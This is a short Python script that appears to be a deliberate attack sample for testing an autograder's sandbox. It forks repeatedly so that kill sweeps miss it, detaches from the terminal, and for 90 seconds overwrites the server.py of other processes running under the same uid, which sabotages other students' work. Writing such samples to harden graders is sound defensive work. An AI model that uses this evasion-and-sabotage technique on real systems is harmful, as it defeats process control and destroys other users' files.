# Hostile: a daemon that keeps changing its pid (fork, parent exits) so a kill sweep that lists
# then kills always misses it; it outlives its grading and, the uid being reused, overwrites the
# next students' private copies (any process of its uid working elsewhere). Bounded: 90 s.
import os
import time

from _attack import serve

SABOTAGE = "raise SystemExit('sabotaged by x_daemon')\n"


def sabotage(me):
    uid = os.getuid()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.stat("/proc/" + pid).st_uid != uid:
                continue
            cwd = os.readlink("/proc/%s/cwd" % pid)
            if cwd != me and os.path.isfile(os.path.join(cwd, "server.py")):
                with open(os.path.join(cwd, "server.py"), "w") as fh:
                    fh.write(SABOTAGE)
        except OSError:
            pass


if os.fork() == 0:
    os.setsid()
    devnull = os.open(os.devnull, os.O_RDWR)  # a daemon lets go of the terminal (the pipes)
    for fd in (0, 1, 2):
        os.dup2(devnull, fd)
    home = os.getcwd()
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        try:
            if os.fork() != 0:
                os._exit(0)  # the parent leaves: a new pid every turn
        except OSError:
            pass
        sabotage(home)
        time.sleep(0.02)
    os._exit(0)
serve()
